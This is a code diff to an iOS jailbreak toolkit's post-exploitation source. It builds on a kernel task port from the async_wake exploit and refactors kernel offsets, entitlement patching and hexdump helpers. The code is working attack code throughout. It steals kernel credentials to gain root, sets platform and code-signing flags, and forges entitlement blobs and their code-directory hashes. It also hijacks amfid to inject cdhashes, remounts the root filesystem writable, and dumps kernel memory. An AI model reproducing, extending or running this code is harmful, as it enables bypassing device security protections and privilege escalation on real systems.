@@ -21,6 +21,9 @@
 #include "kmem.h"
 #include "async_wake.h"
 #include "cdhash.h"
+#include "codesign.h"
+#include "cdhash_cache.h"
+#include "entitlements.h"
 #include "code_hiding_for_sanity.h"
 #include <fcntl.h>
 #include <sys/uio.h>
@@ -31,6 +34,8 @@
 #include "sha256.h"
 #include "kutils.h"
 #include "find_port.h"
+#include "symbolicator.h"
+#include "hexdump.h"
 
 extern mach_port_t kernel_task_port;
 extern uint64_t last_proc_impersonated;
@@ -107,7 +112,7 @@ uint64_t get_proc_block(uint32_t target)
     uint64_t proc = proc_for_pid(getpid());
     while (proc)
     {
-        uint32_t pid = rk32(proc+0x10);
+        uint32_t pid = rk32(proc+koffset(KSTRUCT_OFFSET_PROC_PID));
         if (pid == target)
         {
             //printf("[+]\tFound pid (%d) at 0x%llx\n", target, proc);
@@ -119,13 +124,13 @@ uint64_t get_proc_block(uint32_t target)
     proc = proc_for_pid(getpid());
     while (proc)
     {
-        uint32_t pid = rk32(proc+0x10);
+        uint32_t pid = rk32(proc+koffset(KSTRUCT_OFFSET_PROC_PID));
         if (pid == target)
         {
             //printf("[+]\tFound pid (%d) at 0x%llx\n", target, proc);
             return proc;
         }
-        proc = rk64(proc + 0x8);
+        proc = rk64(proc + koffset(KSTRUCT_OFFSET_PROC_P_LIST_PREV));
     }
     printf("[i]\tCouldn't find the pid!!!\n");
     return -1;
@@ -134,7 +139,7 @@ uint64_t get_proc_block(uint32_t target)
 // copied from mach_portal
 uint64_t find_proc(char* target_p_comm) {
   uint64_t proc = proc_for_pid(getpid());
-  uint64_t struct_proc_p_comm_offset = 0x26e; // or could be 0x2e4
+  uint64_t struct_proc_p_comm_offset = koffset(KSTRUCT_OFFSET_PROC_P_COMM);
   
   for (int i = 0; i < 1000; i++) {
     char* p_comm = rkmem(proc+struct_proc_p_comm_offset, 0x10); // p_comm
@@ -183,26 +188,26 @@ void copy_creds_from_to(uint64_t proc_from, uint64_t proc_to) {
 
 // bail this
 void copy_creds_from_to(uint64_t proc_from, uint64_t proc_to) {
-  uint64_t creds_from = rk64(proc_from + 0x100); //struct_proc_p_ucred_offset
+  uint64_t creds_from = rk64(proc_from + koffset(KSTRUCT_OFFSET_PROC_UCRED));
   printf("kernel creds: 0x%llx\n", creds_from);
   
   // leak the creds
   // WAT
-  wk32(creds_from + 0x10, 0x444444); //struct_kauth_cred_cr_ref_offset
+  wk32(creds_from + koffset(KSTRUCT_OFFSET_UCRED_CR_REF), 0x444444);
   
   // replace our proc's cred point with it
-  wk64(proc_to + 0x100, creds_from);
+  wk64(proc_to + koffset(KSTRUCT_OFFSET_PROC_UCRED), creds_from);
   
   // and to all our threads' cached cred pointers
-  uint64_t uthread = rk64(proc_to + 0x98); // struct_proc_p_uthlist_offset
+  uint64_t uthread = rk64(proc_to + koffset(KSTRUCT_OFFSET_PROC_P_UTHLIST));
   
   while (uthread != 0) {
     // update the uthread's cred
-    wk64(uthread + 0x168, creds_from); // struct_uthread_uu_ucred_offset
+    wk64(uthread + koffset(KSTRUCT_OFFSET_UTHREAD_UU_UCRED), creds_from);
     printf("updated this thread's uu_ucreds\n");
     
     // get the next thread
-    uthread = rk64(uthread + 0x170); // struct_uthread_uu_list_offset
+    uthread = rk64(uthread + koffset(KSTRUCT_OFFSET_UTHREAD_UU_LIST));
     printf("next uthread: 0x%llx\n", uthread);
   }
 }
@@ -281,7 +286,9 @@ void* amfid_exception_handler(void* arg){
                 // it took like 2 days of kernel crashing, failure, and depression
                 // thanks Oban 14yr whiskey!
                 
-                kr = mach_vm_write(task_port, old_state.__x[24], (vm_offset_t)cdhash, 0x14);
+                kr = cdhash ? mach_vm_write(task_port, old_state.__x[24], (vm_offset_t)cdhash, 0x14) : KERN_FAILURE;
+                free(cdhash);
+                cdhash_cache_report(&amfid_cdhash_cache);
                 if (kr==KERN_SUCCESS)
                 {
                     printf("[+]\t[e]\t\twrote the cdhash into amfid\n");
@@ -442,26 +449,26 @@ void xerub_remount_code(uint64_t kaslr, int phone_type)
     printf("[i]\tAttempting to remount /...\n");
     //rootfs_vnode->vnode_val+0xd8->node_data->data+0x70->flags
     printf("[+]\tGot kaslr == 0x%llx\n", kaslr);
-    vm_offset_t offset = 0xd8;
     uint64_t _rootvnode = kaslr + bases[phone_type] + 0x88;
     printf("[+]\tGot _rootvnode = 0x%llx\n", _rootvnode);
     uint64_t rootfs_vnode = rk64(_rootvnode);
     printf("[+]\tGot rootfs_vnode = 0x%llx\n", rootfs_vnode);
-    uint64_t v_mount = rk64(rootfs_vnode + offset);
-    uint32_t v_flag = rk32(v_mount + 0x70);
+    uint64_t v_mount = rk64(rootfs_vnode + koffset(KSTRUCT_OFFSET_VNODE_V_MOUNT));
+    uint64_t mnt_flag = koffset(KSTRUCT_OFFSET_MOUNT_MNT_FLAG);
+    uint32_t v_flag = rk32(v_mount + mnt_flag);
     printf("[+]\tv_mount=0x%llx\n"
            "[+]\tv_flag_location=0x%llx\n"
-           "[+]\tv_flag_value=0x%x\n", v_mount, v_mount + 0x70, v_flag);
+           "[+]\tv_flag_value=0x%x\n", v_mount, v_mount + mnt_flag, v_flag);
     //darwin-xnu/bsd/sys/mount.h
     #define MNT_RDONLY  0x00000001  /* read only filesystem */
     #define MNT_ROOTFS  0x00004000  /* identifies the root filesystem */
     printf("[+]\tSetting v_flag to 0x%x\n", v_flag & 0xFFFFBFFE);
-    wk32(v_mount + 0x70, v_flag & 0xFFFFBFFE);
+    wk32(v_mount + mnt_flag, v_flag & 0xFFFFBFFE);
     char *nmz = strdup("/dev/disk0s1s1");
     int rv = mount("apfs", "/", MNT_UPDATE, (void *)&nmz);
     printf("[+]\t[fun] remounting: %d\n", rv);
-    v_mount = rk64(rootfs_vnode + offset);
-    wk32(v_mount + 0x70, (v_flag & 0xFFFFBFFE) | MNT_ROOTFS);
+    v_mount = rk64(rootfs_vnode + koffset(KSTRUCT_OFFSET_VNODE_V_MOUNT));
+    wk32(v_mount + mnt_flag, (v_flag & 0xFFFFBFFE) | MNT_ROOTFS);
     if (rv >= 0) {
         printf("[+]\tWe successfully remounted the drive\n");
     } else {
@@ -508,15 +515,15 @@ int give_me_root_privs(mach_port_t tfp0)
         printf("We couldn't write back the pcb block\n");
         return 1;
     }
-    uint64_t cred_ptr = rk64(my_proc_block + 0x100);
-    wk32(cred_ptr+0x18, 0);
-    wk32(cred_ptr+0x18+4, 0);   
-    wk32(cred_ptr+0x18+8, 0);
-    uint64_t task_ptr = rk64(my_proc_block + 0x18);
-    uint64_t flags_ptr = task_ptr + 0x2a8;
+    uint64_t cred_ptr = rk64(my_proc_block + koffset(KSTRUCT_OFFSET_PROC_UCRED));
+    wk32(cred_ptr+koffset(KSTRUCT_OFFSET_UCRED_CR_UID), 0);
+    wk32(cred_ptr+koffset(KSTRUCT_OFFSET_UCRED_CR_UID)+4, 0);   
+    wk32(cred_ptr+koffset(KSTRUCT_OFFSET_UCRED_CR_UID)+8, 0);
+    uint64_t task_ptr = rk64(my_proc_block + koffset(KSTRUCT_OFFSET_PROC_TASK));
+    uint64_t flags_ptr = task_ptr + koffset(KSTRUCT_OFFSET_TASK_T_FLAGS);
     uint32_t flags = rk32(flags_ptr);
     printf("[+]\tFlags here: 0x%x\n", flags);
-    wk32(flags_ptr, flags | 0x20004005); //TF_PLATFORM = 0x400
+    wk32(flags_ptr, flags | TF_PLATFORM);
     flags = rk32(flags_ptr);
     printf("[+]\tFlags here: 0x%x\n", flags);
     printf("[i]\tCurrent uid=0x%x, gid=0x%x\n", getpid(), getuid());
@@ -531,26 +538,24 @@ int give_me_root_privs(mach_port_t tfp0)
 uint64_t impersonate(uint32_t target, mach_port_t tfp0)
 {
     uint64_t my_proc_block=proc_for_pid(getpid());
-    uint64_t cred = rk64(my_proc_block+0x100);
+    uint64_t cred = rk64(my_proc_block+koffset(KSTRUCT_OFFSET_PROC_UCRED));
     uint64_t proc = get_proc_block(target);
     while (proc)
     {
-        uint32_t pid = rk32(proc+0x10);
+        uint32_t pid = rk32(proc+koffset(KSTRUCT_OFFSET_PROC_PID));
         if (pid == target) {
             // enable cs entitlements
-            uint32_t csflags = rk32(proc+0x2a8);
+            uint32_t csflags = rk32(proc+koffset(KSTRUCT_OFFSET_PROC_P_CSFLAGS));
             printf("[+]\tOld CS flags on our process 0x%x\n", csflags);
             csflags |= CS_PLATFORM_BINARY|CS_INSTALLER|CS_GET_TASK_ALLOW;
             csflags &= ~(CS_RESTRICT|CS_KILL|CS_HARD);
             //csflags |= 0x24004001; //taken from qilin
             printf("[+]\tSetting CS flags on our process 0x%x\n", csflags);
-            wk32(my_proc_block+0x2a8, csflags);
+            wk32(my_proc_block+koffset(KSTRUCT_OFFSET_PROC_P_CSFLAGS), csflags);
             // give us platform rights and allow code signing entitlements
             
             // give us platform rights
-            // darwin-xnu/osfmk/kern/task.h:258
-            #define TF_PLATFORM             0x00000400                              /* task is a platform binary */
-            uint64_t wat_addr = rk32(proc+0x18);
+            uint64_t wat_addr = rk64(proc+koffset(KSTRUCT_OFFSET_PROC_TASK)) + koffset(KSTRUCT_OFFSET_TASK_T_FLAGS);
             uint32_t wat_val = rk32(wat_addr);
             wk32(wat_addr, wat_val | TF_PLATFORM);
             
@@ -564,10 +569,10 @@ uint64_t impersonate(uint32_t target, mach_port_t tfp0)
             // patch the credential structure
             printf("[d]\tPatching ourselves with pid(%d) at 0x%llx\n", pid, proc);
             leaked_proc = proc;
-            printf("[d]\tOld creds: 0x%llx\n", rk64(my_proc_block+0x100));
-            uint64_t credpatch = rk64(proc+0x100);
+            printf("[d]\tOld creds: 0x%llx\n", rk64(my_proc_block+koffset(KSTRUCT_OFFSET_PROC_UCRED)));
+            uint64_t credpatch = rk64(proc+koffset(KSTRUCT_OFFSET_PROC_UCRED));
             printf("[d]\tPatching our creds with 0x%llx\n", credpatch);
-            wk64(my_proc_block+0x100, credpatch);
+            wk64(my_proc_block+koffset(KSTRUCT_OFFSET_PROC_UCRED), credpatch);
             ///////////////////////////////////////////////////////////////////////////////
             //uint64_t uthread = rk64(my_proc_block + 0x98); // struct_proc_p_uthlist_offset
             //while (uthread != 0) {
@@ -609,7 +614,7 @@ uint64_t proc_for_pid(uint32_t pid) {
 void set_my_pid(uint64_t orig_cred)
 {
     uint64_t bsd_task=proc_for_pid(getpid());
-    wk64(bsd_task+0x100, orig_cred);
+    wk64(bsd_task+koffset(KSTRUCT_OFFSET_PROC_UCRED), orig_cred);
     //wk64(bsd_task+0x10, old_pid);
     //wk32(bsd_task+0x2c, old_pid);
     //uint64_t uthread = rk64(bsd_task + 0x98); // struct_proc_p_uthlist_offset
@@ -678,12 +683,12 @@ void nerf_hammer_AMFID(uint32_t amfid_pid, void* amfid_exception_handler)
 // re'd from QiLin
 void set_platform_attribs(uint64_t proc, mach_port_t tfp0)
 {
-    uint64_t task = rk64(proc+0x18);
-    uint64_t platform_addr = task + 0x3a0;
+    uint64_t task = rk64(proc+koffset(KSTRUCT_OFFSET_PROC_TASK));
+    uint64_t platform_addr = task + koffset(KSTRUCT_OFFSET_TASK_T_FLAGS);
     uint32_t platform = rk32(platform_addr);
-    wk32(platform_addr, platform | 0x400);
+    wk32(platform_addr, platform | TF_PLATFORM);
     //set platform flags
-    wk32(proc+0x279+0x2f, 0x24004001);
+    wk32(proc+koffset(KSTRUCT_OFFSET_PROC_P_CSFLAGS), 0x24004001);
     printf("[d]\tPlatform attributes are correctly set for process 0x%llx\n", proc);
 }
 
@@ -750,72 +755,83 @@ uint32_t exec_wrapper(char* prog_name,
 }
 
 // RE'd from QiLin
+// entitlements is a list of <key>/value pairs, they're merged into what the blob already has
 void modify_entitlements(char* entitlements, mach_port_t tfp0)
 {
-    int i;
     mach_vm_size_t sz;
     uint64_t proc = get_proc_block(getpid());
-    uint64_t vnode_info = rk64(proc+0x248);
+    uint64_t vnode_info = rk64(proc+koffset(KSTRUCT_OFFSET_PROC_TEXTVP));
     printf("[i]\tVNODE info : 0x%llx\n", vnode_info);
-    uint64_t ubc_info = rk64(vnode_info+0xf*sizeof(uint64_t));
+    uint64_t ubc_info = rk64(vnode_info+koffset(KSTRUCT_OFFSET_VNODE_V_UBCINFO));
     printf("[i]\tMy UBC info is 0x%llx\n", ubc_info);
-    uint64_t blob = rk64(ubc_info+0xa*sizeof(uint64_t));
+    uint64_t blob = rk64(ubc_info+koffset(KSTRUCT_OFFSET_UBC_INFO_CS_BLOBS));
     printf("[i]\tMy blob is here: 0x%llx\n", blob);
-    uint64_t cs_blob = rk64(blob + 0x80);
+    uint64_t cs_blob = rk64(blob + koffset(KSTRUCT_OFFSET_CS_BLOB_CSB_CD));
     printf("[i]\tCD blob is at : 0x%llx (should end with .....93d)\n", cs_blob);
-    uint64_t ent_blob_ptr = rk64(blob + 0x90);
+    uint64_t ent_blob_ptr = rk64(blob + koffset(KSTRUCT_OFFSET_CS_BLOB_CSB_ENTITLEMENTS_BLOB));
     printf("[i]\tEntitlement blob is at: 0x%llx\n", ent_blob_ptr);
     uint32_t blob_size = ntohl(rk32(ent_blob_ptr+4));
-    //dump_pointer(tfp0, ent_blob_ptr, 0x100);
-    printf("[i]\tblob size: %d\n", blob_size);
-    char* estring = malloc(blob_size);
-    bzero(estring, blob_size);
-    mach_vm_read_overwrite(tfp0,
-                           (mach_vm_address_t)ent_blob_ptr,
-                           (mach_vm_size_t)blob_size,
-                           (mach_vm_address_t)estring,
-                           &sz);
-    printf("[+]\tEntitlement blob (%d bytes) @0x%llx: %s\n", blob_size, ent_blob_ptr, (char *)((uint64_t)estring+8));
-    char* new_blob = alloca(blob_size);
-    sprintf(new_blob, "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">\n<plist version=\"1.0\">\n<dict>\n%s\n</dict>\n</plist>\n", entitlements);
-    // ok, we need to sha256 the old section to validate we are sha256'ing the right thing and comparing the sha256
-    // to the proper hash location
-    SHA256_CTX *ctx = malloc(sizeof(SHA256_CTX));
-    sha256_init(ctx);
-    sha256_update(ctx, (BYTE *)estring, blob_size);
-    char* old_hash = malloc(0x20);
-    sha256_final(ctx, (BYTE *)old_hash);
-    free(ctx);
-    printf("[i]\tHere's the old entitlentment hash: [");
-    for (i=0;i<0x20;i++)
-        printf("%02x", old_hash[i] & 0xff);
-    free(old_hash);
-    printf("]\n");
-    uint32_t hash_offset = ntohl(rk32(cs_blob+0x10));
-    uint32_t hash_type = rk32(cs_blob+0x25) & 0xff;
-    uint32_t hash_bytes = rk32(cs_blob+0x24) & 0xff;
-    char nspecial = ntohl(rk32(cs_blob+0x18)) & 0x0000FFFF;
-    printf("[i]\tHash offset: 0x%x, Type: %d (%d bytes), nspecial = %d\n", hash_offset, hash_type, hash_bytes, nspecial);
-    uint64_t hash_ptr = cs_blob + hash_offset - 5 * hash_bytes;
-    printf("[i]\thash at 0x%llx\n",hash_ptr);
-    bzero(estring+8, blob_size-8); // leave the header in estring!
-    strcpy(estring+8, new_blob); // leave the header in estring!
-    ctx = malloc(sizeof(SHA256_CTX));
-    sha256_init(ctx);
-    sha256_update(ctx, (BYTE *)estring, blob_size);
-    char* new_hash = malloc(0x20);
-    sha256_final(ctx, (BYTE *)new_hash);
-    free(ctx);
-    mach_vm_write(tfp0, (mach_vm_address_t)ent_blob_ptr, (vm_offset_t)estring, blob_size);
-    mach_vm_write(tfp0, (mach_vm_address_t)hash_ptr, (vm_offset_t)new_hash, 0x20);
-    printf("[i]\tNew blob: %s\n", new_blob);
-    printf("[i]\tHere's the new entitlentment hash: [");
-    for (i=0;i<0x20;i++)
-        printf("%02x", new_hash[i] & 0xff);
+    uint32_t cd_size = ntohl(rk32(cs_blob+4));
+    printf("[i]\tblob size: %d, code directory size: %d\n", blob_size, cd_size);
+    if (blob_size < 8 || blob_size > 0x10000 || cd_size < 8 || cd_size > 0x1000000)
+    {
+        printf("[-]\tthose sizes don't look right, leaving the entitlements alone\n");
+        return;
+    }
+    
+    // one buffer for the lot: the old blob, the new one (which has to fit where the old one is) and the code directory
+    uint8_t* arena = malloc(2 * blob_size + cd_size);
+    if (arena == NULL)
+    {
+        printf("[-]\tcouldn't allocate %d bytes for the blobs, leaving the entitlements alone\n", 2 * blob_size + cd_size);
+        return;
+    }
+    uint8_t* old_blob = arena;
+    uint8_t* new_blob = arena + blob_size;
+    uint8_t* cd = arena + 2 * blob_size;
+    if (mach_vm_read_overwrite(tfp0, (mach_vm_address_t)ent_blob_ptr, (mach_vm_size_t)blob_size, (mach_vm_address_t)old_blob, &sz) != KERN_SUCCESS ||
+        mach_vm_read_overwrite(tfp0, (mach_vm_address_t)cs_blob, (mach_vm_size_t)cd_size, (mach_vm_address_t)cd, &sz) != KERN_SUCCESS)
+    {
+        printf("[-]\tcouldn't read the blobs out of the kernel, leaving the entitlements alone\n");
+        free(arena);
+        return;
+    }
+    printf("[+]\tEntitlement blob (%d bytes) @0x%llx: %.*s\n", blob_size, ent_blob_ptr, blob_size - 8, (char*)old_blob + 8);
+    
+    enum ent_layout layout;
+    uint32_t new_size = ent_rewrite_blob(old_blob, blob_size, entitlements, strlen(entitlements), new_blob, blob_size, &layout);
+    if (!new_size)
+    {
+        printf("[-]\tthe new entitlements don't fit in %d bytes, or the old ones can't be parsed\n", blob_size);
+        free(arena);
+        return;
+    }
+    if (layout == ENT_LAYOUT_REPLACED)
+    {
+        printf("[i]\tno room to keep the old entitlements, only the new ones are going in\n");
+    }
+    
+    uint32_t slot_offset, slot_size;
+    int old_matched = 0;
+    if (ent_rehash_special_slot(cd, cd_size, old_blob, blob_size, new_blob, new_size, &slot_offset, &slot_size, &old_matched))
+    {
+        printf("[-]\tthe code directory has no entitlements slot\n");
+        free(arena);
+        return;
+    }
+    if (!old_matched)
+    {
+        printf("[-]\tthe entitlements slot didn't hold the old blob's hash, rewriting it anyway\n");
+    }
+    // all of blob_size goes back so whatever's past the new blob is zeroed
+    mach_vm_write(tfp0, (mach_vm_address_t)ent_blob_ptr, (vm_offset_t)new_blob, blob_size);
+    mach_vm_write(tfp0, (mach_vm_address_t)(cs_blob + slot_offset), (vm_offset_t)(cd + slot_offset), slot_size);
+    printf("[i]\tNew blob (%d bytes): %.*s\n", new_size, new_size - 8, (char*)new_blob + 8);
+    printf("[i]\tHere's the new entitlement hash: [");
+    for (uint32_t i = 0; i < slot_size; i++)
+        printf("%02x", cd[slot_offset + i]);
     printf("]\n");
-    free(new_hash);
-    free(estring);
-    // so, I'm still generating a entitlement errors but....things work so....dunno
+    free(arena);
 }
 
 void neuter_updates()
@@ -864,26 +880,6 @@ uint32_t get_pid_from_name(char* name)
     return pid;
 }
 
-// Bryce's code
-void ps_html(int sfd)
-{
-    uint32_t index = 0;
-    char buf[1024];
-    char buf2[1024];
-    int buf_size = 1024;
-    for (index=0; index < 0xffff; index++)
-    {
-        buf[0] = 0;
-        proc_name(index, buf, buf_size);
-        if (strlen(buf) > 0)
-        {
-            printf("%d -- %s (0x%llx)\n", index, buf, get_proc_block(index));
-            sprintf(buf2, "<br>%d -- %s (<a href=/dump_ptr=0x%llx>0x%llx</a>)</ br>\n", index, buf, get_proc_block(index), get_proc_block(index));
-            send(sfd, buf2, strlen(buf2), 0);
-        }
-    }
-}
-
 // Bryce's code
 void write_file(char *f_name, char *f_data, size_t f_size)
 {
@@ -922,6 +918,16 @@ void do_execution_test(char* app_path)
     }
 }
 
+static void symbol_note(void* symbols, uint64_t value, char* note, size_t size)
+{
+    symbolicate(symbols, value, note, size);
+}
+
+static void print_sink(void* file, const char* data, size_t len)
+{
+    fwrite(data, 1, len, file);
+}
+
 // Bryce's code
 void dump_pointer(mach_port_t tfp0, addr64_t addr, uint64_t max_size)
 {
@@ -934,64 +940,59 @@ void dump_pointer(mach_port_t tfp0, addr64_t addr, uint64_t max_size)
         //printf("mach_vm_read failed: %x %s\n", err, mach_error_string(err));
         return;
     }
-    int i,c;
-    for (i=0; i<max_size;i++)
-    {
-        c = (char)*(uint64_t*)(data_out + i);
-        printf("\\x%02x", c & 0xff);
-    }
+    struct hexdump_options opts = {HEXDUMP_ESCAPED};
+    hexdump_stream(&opts, (void*)data_out, max_size, print_sink, stdout);
     printf("\n");
-    for (i=0x0; i < max_size; i+= 8)
-    {
-        printf("[0x%llx + 0x%02x]\t0x%016llx\n", addr, i, *(uint64_t*)(data_out+i));
-    }
+    opts.format = HEXDUMP_TEXT;
+    opts.base = addr;
+    opts.annotate = symbol_note;
+    opts.annotate_ctx = &kernel_symbols;
+    hexdump_stream(&opts, (void*)data_out, max_size, print_sink, stdout);
+    mach_vm_deallocate(mach_task_self(), data_out, out_size);
+}
+
+struct html_out
+{
+    char *p;
+};
+
+static void html_sink(void* ctx, const char* data, size_t len)
+{
+    struct html_out *out = ctx;
+    memcpy(out->p, data, len);
+    out->p += len;
 }
 
 // Bryce's code
 char* dump_pointer_html(mach_port_t tfp0, addr64_t addr, uint64_t max_size)
 {
-    uint64_t current_alloc = 0x3000;
-    char *html = malloc(current_alloc);
-    //uint64_t html_length = 0;
-    
-    strcpy(html, "<html>\n");
-
     kern_return_t err;
     vm_offset_t data_out = 0;
     mach_msg_type_number_t out_size = 0;
     err = mach_vm_read(tfp0, addr, max_size, &data_out, &out_size);
     if (err != KERN_SUCCESS) {
-        sprintf(html, "mach_vm_read failed: %x %s\n", err, mach_error_string(err));
+        char *html = malloc(0x100);
+        snprintf(html, 0x100, "mach_vm_read failed: %x %s\n", err, mach_error_string(err));
         return html;
     }
-    int i;
-    unsigned char c;
-    for (i=0x0; i < max_size; i+= 8)
-    {
-        char *tmp = malloc(0x2000);
-        //html_length = strlen(html);
-        sprintf(tmp, "<br>[<a href=/dump_ptr=0x%llx>0x%llx + 0x%02x</a>]\t<a href=/dump_ptr=0x%llx>0x%016llx</a></ br>\n", addr + i, addr, i, *(uint64_t*)(data_out+i), *(uint64_t*)(data_out+i));
 
-        //uint64_t new_length = strlen(tmp);
-
-        //if (current_alloc < (html_length + new_length))
-        //    realloc(html, html_length + new_length);
-        strcat(html, tmp);
-        free(tmp);
-    }
-    //html_length = strlen(html);
-    //if (current_alloc < (html_length + max_size * 4 + 0xc))
-    //    realloc(html, html_length + max_size * 4 + 0xc);
-    strcat(html, "<br>");
-    for (i=0; i<max_size;i++)
-    {
-        char tmp[5];
-        c = *(char *)(data_out + i);
-        sprintf(tmp, "\\x%02x", c);
-        tmp[4]=0;
-        strcat(html, tmp);
+    // written straight through, every line has a bound so the size is known up front
+    const char *link = "/dump_ptr=";
+    size_t size = 0x40 + (max_size / 8) * (HEXDUMP_LINE_MAX + 2 * strlen(link) + 0x100) + HEXDUMP_ESCAPED_SIZE(max_size);
+    char *html = malloc(size);
+    if (html == NULL) {
+        mach_vm_deallocate(mach_task_self(), data_out, out_size);
+        return strdup("out of memory\n");
     }
-    strcat(html, "</ br></html>\n");
+    struct html_out out = {html};
+    html_sink(&out, "<html>\n", 7);
+    struct hexdump_options opts = {HEXDUMP_HTML, addr, link, symbol_note, &kernel_symbols};
+    hexdump_stream(&opts, (void*)data_out, max_size, html_sink, &out);
+    html_sink(&out, "<br>", 4);
+    out.p += hexdump_escaped(out.p, (void*)data_out, max_size);
+    html_sink(&out, "</ br></html>\n", 14);
+    *out.p = 0;
+    mach_vm_deallocate(mach_task_self(), data_out, out_size);
     return html;
 }
 
@@ -1058,20 +1059,24 @@ void cat(char *f_name)
     int truncate = 0; // change this to revert to normal behavior
     int print_hex = 1; // plaintext vs copy/pasteable hex
     int fd = open(f_name, O_RDONLY);
-    int c;
-    while (1 == read(fd, &c, 1))
+    uint8_t buf[0x1000];
+    char hex[HEXDUMP_ESCAPED_SIZE(sizeof(buf))];
+    ssize_t n;
+    while (fd != -1 && (n = read(fd, buf, truncate && max_count < (int)sizeof(buf) ? max_count : sizeof(buf))) > 0)
     {
-        if (print_hex) 
+        if (print_hex)
         {
-            printf("\\x%02x", c & 0xff);
+            fwrite(hex, 1, hexdump_escaped(hex, buf, n), stdout);
         } else {
-            printf("%c", c & 0xff);
+            fwrite(buf, 1, n, stdout);
         }
-        max_count--;
+        max_count -= n;
         if (truncate)
-            if (max_count < 0)
+            if (max_count <= 0)
                 break;
     }
+    if (fd != -1)
+        close(fd);
     printf("\nFile dumped\n");
 }
 
@@ -1083,7 +1088,7 @@ uint64_t dump_kernel(mach_port_t tfp0, uint64_t kernel_base)
     // uint64_t kernel_base = 0xfffffff00760a0a0; //15B202 on iPhone 6s
     mach_port_t self = mach_host_self();
     uint64_t port_addr = find_port_via_kmem_read(self);
-    uint64_t search_addr = rk64(port_addr + 0x68); //KSTRUCT_OFFSET_IPC_PORT_IP_KOBJECT
+    uint64_t search_addr = rk64(port_addr + koffset(KSTRUCT_OFFSET_IPC_PORT_IP_KOBJECT));
     search_addr &= 0xFFFFFFFFFFFFF000;
     printf("[+]\tGoing backwards until magic seen....\n");
     while (1)
@@ -1131,114 +1136,21 @@ uint64_t bswap64(uint64_t a)
     return a;
 }
 
-typedef struct __BlobIndex {
-    uint32_t type;                                  /* type of entry */
-    uint32_t offset;                                /* offset of entry */
-} CS_BlobIndex;
-
-typedef struct __SuperBlob {
-    uint32_t magic;                                 /* magic number */
-    uint32_t length;                                /* total length of SuperBlob */
-    uint32_t count;                                 /* number of index entries following */
-    CS_BlobIndex index[];                   /* (count) entries */
-    /* followed by Blobs in no particular order as indicated by offsets in index */
-} CS_SuperBlob;
-
-
-/*
- * C form of a CodeDirectory.
- */
-typedef struct __CodeDirectory {
-    uint32_t magic;                                 /* magic number (CSMAGIC_CODEDIRECTORY) */
-    uint32_t length;                                /* total length of CodeDirectory blob */
-    uint32_t version;                               /* compatibility version */
-    uint32_t flags;                                 /* setup and mode flags */
-    uint32_t hashOffset;                    /* offset of hash slot element at index zero */
-    uint32_t identOffset;                   /* offset of identifier string */
-    uint32_t nSpecialSlots;                 /* number of special hash slots */
-    uint32_t nCodeSlots;                    /* number of ordinary (code) hash slots */
-    uint32_t codeLimit;                             /* limit to main image signature range */
-    uint8_t hashSize;                               /* size of each hash in bytes */
-    uint8_t hashType;                               /* type of hash (cdHashType* constants) */
-    uint8_t spare1;                                 /* unused (must be zero) */
-    uint8_t pageSize;                               /* log2(page size in bytes); 0 => infinite */
-    uint32_t spare2;                                /* unused (must be zero) */
-    /* followed by dynamic content as located by offset fields above */
-} CS_CodeDirectory;
-
 // RE'd from QiLin
-#define LC_CODE_SIGNATURE 0x1d  /* local of code signature */
 char* get_binary_hash(char* filename)
 {
-    int fd = open(filename, 0);
-    if (fd == -1)
+    char* ret = malloc(0x20);
+    int cached = 0;
+    if (cdhash_cache_hash_file(&amfid_cdhash_cache, filename, (uint8_t*)ret, &cached))
     {
-        printf("[-]\tFile [%s] not found!\n", filename);
+        free(ret);
         return 0;
-    } else {
-        struct stat stat;
-        if (fstat(fd, &stat))
-            printf("t[-]\tThere was an error getting the stat of the file!");
-        void* header = malloc(stat.st_size);
-        read(fd, header, stat.st_size);
-        
-        struct mach_header_64* hdr = (struct mach_header_64*)header;
-        uint8_t* commands = (uint8_t*)(hdr+1);
-        uint32_t ncmds = hdr->ncmds;
-        printf("[+]\tGot Header with %d Load commands\n", hdr->ncmds);
-        uint32_t i;
-        for (i=0; i < ncmds; i++)
-        {
-            struct load_command* lc = (struct load_command*)commands;
-            if (lc->cmd == LC_CODE_SIGNATURE)
-            {
-                struct linkedit_data_command* cs_cmd = (struct linkedit_data_command*)lc;
-                printf("[+]\tfound LC_CODE_SIGNATURE blob at offset +0x%x\n", cs_cmd->dataoff);
-                uint32_t* code_base = (uint32_t*)((uint64_t)header + (uint64_t)cs_cmd->dataoff);
-                uint32_t magic = *code_base;
-                uint32_t offset = bswap32(code_base[4]); //TODO this is janky, tie symbols to [4]
-                uint32_t type = bswap32(code_base[3]); //TODO this is janky, tie symbols to [3]
-                magic = bswap32(magic);
-                printf("[+]\tGot BLOB, MAGIC: 0x%x, offset: %x, type: %x\n",
-                       magic,
-                       offset,
-                       type);
-                if (!strncmp((char *)code_base, "Apple Ce", 8)) //TODO properly handle signed code
-                {
-                    printf("[X]\tThis is already signed properly so let's let it do it's own thing\n");
-                    return 0;
-                } else {
-                    CS_SuperBlob* sb = (CS_SuperBlob*)code_base;
-                    
-                    for (uint32_t i = 0; i < ntohl(sb->count); i++)
-                    {
-                        CS_BlobIndex* bi = &sb->index[i];
-                        uint8_t* blob = ((uint8_t*)sb) + (htonl(bi->offset));
-                        printf("[i]\t\tblob &    : 0x%16llx\n", (uint64_t)blob);
-                        printf("[i]\t\t*blob+0x00: 0x%16llx\n", *(uint64_t *)(blob+0x0));
-                        printf("[i]\t\t*blob+0x08: 0x%16llx\n", *(uint64_t *)(blob+0x8));
-                        printf("[i]\t\t*blob+0x10: 0x%16llx\n", *(uint64_t *)(blob+0x10));
-                        printf("[i]\t\t*blob+0x18: 0x%16llx\n", *(uint64_t *)(blob+0x18));
-                        if (htonl(*(uint32_t*)blob) == 0xfade0c02) {
-                            CS_CodeDirectory* cd = (CS_CodeDirectory*)blob;
-                            printf("[+]\tfound code directory, length=0x%x\n", htonl(sb->length));
-                            SHA256_CTX *ctx = malloc(sizeof(SHA256_CTX));
-                            sha256_init(ctx);
-                            sha256_update(ctx, blob, htonl(cd->length));
-                            char* ret = malloc(0x20);
-                            sha256_final(ctx, (BYTE *)ret);
-                            return ret;
-                        }
-                    }
-                }
-                return ((char*)header) + cs_cmd->dataoff;
-            }
-            commands += lc->cmdsize;
-        }
-        
     }
-    close(fd);
-    return 0;
+    if (cached)
+    {
+        printf("[+]\tcdhash for [%s] was cached\n", filename);
+    }
+    return ret;
 }
 
 // not sure where this came from but saving it